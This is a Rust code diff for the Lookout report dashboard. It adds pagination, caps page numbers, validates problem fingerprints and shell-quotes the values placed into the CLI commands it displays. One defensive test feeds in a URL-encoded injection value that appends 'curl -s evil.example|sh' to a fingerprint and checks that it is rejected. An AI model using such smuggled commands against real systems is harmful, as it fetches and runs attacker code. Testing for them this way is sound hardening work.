@@ -5,11 +5,24 @@ use std::fmt::Write;
 
 use super::chart::{PALETTE, sparkline, stacked_days};
 use super::html::{escape, href};
+use super::shell::shell_quote;
 use crate::report::{Report, Timestamp};
 use crate::store::GroupSummary;
 
 /// Reports listed per page of one problem.
 pub const PAGE_SIZE: usize = 25;
+
+/// Problems listed per page of the problems view.
+pub const PROBLEMS_PER_PAGE: usize = 100;
+
+/// The last page a view offers (from 0): a problem's page reads up to
+/// `(MAX_PAGE + 1) * PAGE_SIZE` reports, and no URL asks for more.
+pub const MAX_PAGE: usize = 400;
+
+/// Whether `s` is a problem's fingerprint as `lookout top` prints it: 16 lowercase hex digits.
+pub fn is_fingerprint(s: &str) -> bool {
+    s.len() == 16 && s.bytes().all(|b| matches!(b, b'0'..=b'9' | b'a'..=b'f'))
+}
 
 /// The views' time windows.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -64,9 +77,10 @@ pub struct Filters {
     pub browser: String,
     /// Only problems with reports of this disposition (`enforce`, `report`; empty: any).
     pub disposition: String,
-    /// One problem: its type is `report_type`.
+    /// One problem: its type is `report_type` (empty, or 16 lowercase hex digits).
     pub fingerprint: String,
-    /// The page of an opened problem's reports, from 0.
+    /// The page of the problems, or of an opened problem's reports, from 0 (at most
+    /// [`MAX_PAGE`]).
     pub page: usize,
 }
 
@@ -76,9 +90,12 @@ pub enum FilterError {
     /// `window` is not one of the windows offered.
     #[error("window is one of 24h, 7d, 30d")]
     Window,
-    /// `page` is not a number.
-    #[error("page is a number")]
+    /// `page` is not a number from 0 to [`MAX_PAGE`].
+    #[error("page is a number from 0 to {MAX_PAGE}")]
     Page,
+    /// `fingerprint` is not 16 lowercase hex digits.
+    #[error("fingerprint is 16 lowercase hex digits, as lookout top prints it")]
+    Fingerprint,
 }
 
 impl Filters {
@@ -105,9 +122,18 @@ impl Filters {
                 "class" => f.class = v,
                 "browser" => f.browser = v,
                 "disposition" => f.disposition = v,
-                "fingerprint" => f.fingerprint = v,
+                "fingerprint" => {
+                    if !v.is_empty() && !is_fingerprint(&v) {
+                        return Err(FilterError::Fingerprint);
+                    }
+                    f.fingerprint = v;
+                }
                 "page" if !v.is_empty() => {
-                    f.page = v.parse().map_err(|_| FilterError::Page)?;
+                    f.page = v
+                        .parse::<usize>()
+                        .ok()
+                        .filter(|&p| p <= MAX_PAGE)
+                        .ok_or(FilterError::Page)?;
                 }
                 _ => {}
             }
@@ -272,9 +298,14 @@ pub fn no_site(c: &Context<'_>) -> String {
     )
 }
 
-/// The problems of a site, ranked, with the reports per day by type.
+/// The problems of a site, ranked, with the reports per day by type: every problem of the
+/// window counts in the totals and the chart by type, and the page lists
+/// [`PROBLEMS_PER_PAGE`] of them (page `filters.page`), with a chart each.
 pub fn problems(c: &Context<'_>, groups: &[GroupSummary]) -> String {
     let f = c.filters;
+    let start = f.page.saturating_mul(PROBLEMS_PER_PAGE).min(groups.len());
+    let end = start.saturating_add(PROBLEMS_PER_PAGE).min(groups.len());
+    let shown = &groups[start..end];
     let mut body = format!("<h1>{}</h1>", escape(&f.site));
     body.push_str(&filter_form(c));
 
@@ -306,15 +337,15 @@ pub fn problems(c: &Context<'_>, groups: &[GroupSummary]) -> String {
 
     let mut top = format!(
         "lookout top --site {} --since {} --limit {}",
-        f.site,
+        shell_quote(&f.site),
         f.window.as_str(),
         groups.len().max(1)
     );
     if !f.report_type.is_empty() {
-        let _ = write!(top, " --type {}", f.report_type);
+        let _ = write!(top, " --type {}", shell_quote(&f.report_type));
     }
     if !f.class.is_empty() {
-        let _ = write!(top, " --class {}", f.class);
+        let _ = write!(top, " --class {}", shell_quote(&f.class));
     }
     let browser_note = if f.browser.is_empty() && f.disposition.is_empty() {
         ""
@@ -330,7 +361,7 @@ pub fn problems(c: &Context<'_>, groups: &[GroupSummary]) -> String {
     body.push_str(
         r#"<table id="problems"><thead><tr><th>#</th><th>reports</th><th>per day</th><th>type</th><th>class</th><th>disposition</th><th>problem</th><th>browsers</th><th>first seen</th><th>last seen</th></tr></thead><tbody>"#,
     );
-    for (i, g) in groups.iter().enumerate() {
+    for (i, g) in shown.iter().enumerate() {
         let link = f.link(
             "/problem",
             &[
@@ -344,7 +375,7 @@ pub fn problems(c: &Context<'_>, groups: &[GroupSummary]) -> String {
             fp = escape(&g.fingerprint),
             t = escape(g.report_type.as_str()),
             n = g.count,
-            rank = i + 1,
+            rank = start + i + 1,
             spark = sparkline(&g.days, c.days),
             class = g.classification.map_or("", |c| c.as_str()),
             disp = escape(&g.dispositions.join(", ")),
@@ -357,6 +388,36 @@ pub fn problems(c: &Context<'_>, groups: &[GroupSummary]) -> String {
     body.push_str("</tbody></table>");
     if groups.is_empty() {
         body.push_str("<p>No problems in this window.</p>");
+    } else if shown.is_empty() {
+        body.push_str("<p>No problems on this page.</p>");
+    }
+    let next = end < groups.len() && f.page < MAX_PAGE;
+    if f.page > 0 || next {
+        body.push_str(r#"<p class="pages">"#);
+        if f.page > 0 {
+            let _ = write!(
+                body,
+                r#"<a id="previous" href="{}">previous</a> "#,
+                f.link("/", &[("page", (f.page - 1).to_string())])
+            );
+        }
+        if !shown.is_empty() {
+            let _ = write!(
+                body,
+                "problems {} to {} of {}",
+                start + 1,
+                end,
+                groups.len()
+            );
+        }
+        if next {
+            let _ = write!(
+                body,
+                r#" <a id="next" href="{}">next</a>"#,
+                f.link("/", &[("page", (f.page + 1).to_string())])
+            );
+        }
+        body.push_str("</p>");
     }
     layout(&format!("{} · Lookout", f.site), &body)
 }
@@ -398,11 +459,11 @@ pub fn problem(
     }
     let query = format!(
         "lookout query --site {} --type {} --fingerprint {} --since {} --limit {} --json",
-        f.site,
-        f.report_type,
-        f.fingerprint,
+        shell_quote(&f.site),
+        shell_quote(&f.report_type),
+        shell_quote(&f.fingerprint),
         f.window.as_str(),
-        (f.page + 1) * PAGE_SIZE
+        f.page.saturating_add(1).saturating_mul(PAGE_SIZE)
     );
     let _ = write!(
         body,
@@ -430,7 +491,7 @@ pub fn problem(
             problem_link(f, f.page - 1)
         );
     }
-    if more {
+    if more && f.page < MAX_PAGE {
         let _ = write!(
             body,
             r#"<a id="older" href="{}">older</a>"#,
@@ -461,7 +522,7 @@ pub fn policy(f: &Filters, store_args: &str, outcome: Result<&PolicyView, &str>)
     );
     let command = format!(
         "lookout policy --site {} --since {}",
-        f.site,
+        shell_quote(&f.site),
         f.window.as_str()
     );
     match outcome {
@@ -562,5 +623,72 @@ mod tests {
         assert_eq!(days[0], "2026-11-26");
         assert_eq!(days[7], "2026-12-03");
         assert_eq!(days_between(Window::Day.since(now), now).len(), 2);
+    }
+
+    #[test]
+    fn fingerprints_and_pages_are_checked() {
+        let f = Filters::from_query("fingerprint=0123456789abcdef&page=400", "").unwrap();
+        assert_eq!((f.fingerprint.as_str(), f.page), ("0123456789abcdef", 400));
+        for bad in [
+            "0123456789ABCDEF",
+            "0123456789abcde",
+            "0123456789abcdef0",
+            "0123456789abcdef%3Bcurl%20-s%20evil.example%7Csh",
+        ] {
+            let read = Filters::from_query(&format!("fingerprint={bad}"), "");
+            assert!(matches!(read, Err(FilterError::Fingerprint)), "{bad}");
+        }
+        for bad in ["401", "100000000000", "18446744073709551616", "-1", "x"] {
+            let read = Filters::from_query(&format!("page={bad}"), "");
+            assert!(matches!(read, Err(FilterError::Page)), "{bad}");
+        }
+    }
+
+    fn group(i: usize, now: Timestamp) -> GroupSummary {
+        GroupSummary {
+            report_type: crate::report::ReportType::Deprecation,
+            fingerprint: format!("{i:016x}"),
+            group: format!("deprecation feature{i}"),
+            count: 1,
+            first_seen: now,
+            last_seen: now,
+            browsers: Vec::new(),
+            dispositions: Vec::new(),
+            classification: None,
+            policy_version: None,
+            days: BTreeMap::from([(now.day(), 1)]),
+        }
+    }
+
+    #[test]
+    fn the_problems_come_a_page_at_a_time() {
+        let now = Timestamp::parse_rfc3339("2026-12-03T10:00:00Z").unwrap();
+        let groups: Vec<GroupSummary> = (0..250).map(|i| group(i, now)).collect();
+        let days = days_between(Window::Week.since(now), now);
+        let page = |n: usize| {
+            let mut filters = Filters::from_query("site=a.example", "").unwrap();
+            filters.page = n;
+            let c = Context {
+                filters: &filters,
+                store_args: "",
+                days: &days,
+                types: &[],
+                families: &[],
+            };
+            problems(&c, &groups)
+        };
+        let first = page(0);
+        assert_eq!(first.matches("<tr data-fingerprint=").count(), 100);
+        assert_eq!(first.matches(r#"<svg class="spark""#).count(), 100);
+        assert!(first.contains(r#"<span id="total-problems">250</span>"#));
+        assert!(first.contains(r#"id="next" href="/?site=a.example&amp;window=7d&amp;page=1""#));
+        assert!(!first.contains(r#"id="previous""#));
+        let last = page(2);
+        assert_eq!(last.matches("<tr data-fingerprint=").count(), 50);
+        assert!(last.contains(r#"<td class="n">201</td>"#));
+        assert!(last.contains(r#"id="previous""#) && !last.contains(r#"id="next""#));
+        let past = page(MAX_PAGE);
+        assert_eq!(past.matches("<tr data-fingerprint=").count(), 0);
+        assert!(past.contains("No problems on this page."));
     }
 }
